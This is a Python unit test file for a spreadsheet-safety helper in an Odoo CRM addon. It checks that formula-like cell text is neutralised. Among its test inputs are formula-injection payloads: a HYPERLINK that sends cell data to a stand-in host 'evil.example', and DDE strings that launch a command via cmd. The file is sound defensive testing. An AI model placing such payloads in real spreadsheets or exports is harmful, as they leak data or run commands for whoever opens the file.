"""Unit tests of lib/spreadsheet_safety.py: plain unittest, no database."""

import unittest
from datetime import date
from decimal import Decimal

from odoo.addons.crm_privacy_pdpo.lib import spreadsheet_safety as safety


class TestSpreadsheetSafety(unittest.TestCase):
    def test_formula_looking_text_is_neutralised(self):
        for value in (
            '=HYPERLINK("http://evil.example/?x="&A1, "Click")',
            "+852 9123 4567",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "\uff1dSUM(A1:A2)",  # full-width equals sign (CJK input)
        ):
            with self.subTest(value=value):
                self.assertTrue(safety.is_formula_like(value))
                self.assertEqual(safety.safe_text(value), "'" + value)
                self.assertEqual(safety.safe_cell(value), "'" + value)

    def test_plain_text_and_numbers_are_kept(self):
        for value in ("Chan Siu Ming", "陳小明", "a=b", "", " =not first", "'quoted"):
            with self.subTest(value=value):
                self.assertEqual(safety.safe_text(value), value)
        # real numbers stay numbers; text that is a plain number cannot run
        for value in (-12.5, 3, Decimal("-1.50"), 0.0, None, False, True, date(2026, 1, 2)):
            with self.subTest(value=value):
                self.assertIs(safety.safe_cell(value), value)
        for value in ("-12.5", "+3", "-1e3", ".5"):
            with self.subTest(value=value):
                self.assertEqual(safety.safe_text(value), value)

    def test_row(self):
        self.assertEqual(safety.safe_row(["=1+1", 2.0, None, "ok"]), ["'=1+1", 2.0, None, "ok"])
